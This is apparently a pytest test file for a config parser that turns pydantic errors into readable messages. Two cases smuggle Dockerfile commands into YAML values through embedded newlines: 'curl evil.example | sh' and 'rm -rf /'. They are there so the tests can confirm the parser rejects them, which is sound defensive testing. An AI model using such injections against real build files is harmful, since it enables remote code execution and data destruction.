"""builder.variant.parse: pydantic's errors made readable (file, field, value, allowed, did-you-mean),
all of a file at once."""

from __future__ import annotations

import pytest

from tests.builder.helpers import MINIMAL_VARIANT

GOOD = MINIMAL_VARIANT

CASES = {
    # case id: (file text, expected fragments of stderr)
    "max-num-seqs-over-256": (
        GOOD + "engine:\n  max_num_seqs: 300\n",
        ["engine.max_num_seqs", "300 is invalid: Input should be less than or equal to 256"],
    ),
    "max-model-len-under-16": (
        GOOD + "engine:\n  max_model_len: 8\n",
        ["engine.max_model_len", "8 is invalid: Input should be greater than or equal to 16"],
    ),
    "unknown-key": (
        GOOD + "engine:\n  quantizaton: wint4\n",
        ["engine.quantizaton", "unknown key 'quantizaton'", "did you mean 'quantization'"],
    ),
    "wrong-type": (GOOD + "engine:\n  max_model_len: lots\n", ["engine.max_model_len", "'lots'"]),
    "newline-in-dockerfile-value": (
        GOOD.replace(
            "description: A variant written by a test.",
            'description: "innocent\\nRUN curl evil.example | sh"',
        ),
        ["description", "newlines and control characters are not allowed"],
    ),
    "newline-in-env-value": (
        GOOD + 'engine:\n  env:\n    FD_ATTENTION_BACKEND: "x\\nRUN rm -rf /"\n',
        ["engine.env.FD_ATTENTION_BACKEND", "newlines"],
    ),
    "missing-required": (GOOD.replace("title: Test variant\n", ""), ["title", "is required"]),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_refused_naming_file_and_field(case, refused):
    text, fragments = CASES[case]
    refused(case, text, fragments)


def test_all_errors_at_once(cli, write_variant):
    text = (
        GOOD + "engine:\n  quantizaton: wint4\n  max_num_seqs: -1\nhub:\n  gpu_ids: [ADA_24]\n  categori: x\n"
    )
    path = write_variant("many", text.replace("{name}", "many"))
    result = cli("--variant", str(path), "--render-only")
    assert result.returncode == 2
    for fragment in ("engine.quantizaton", "engine.max_num_seqs", "hub.categori"):
        assert fragment in result.stderr
    assert "3 error(s)" in result.stderr
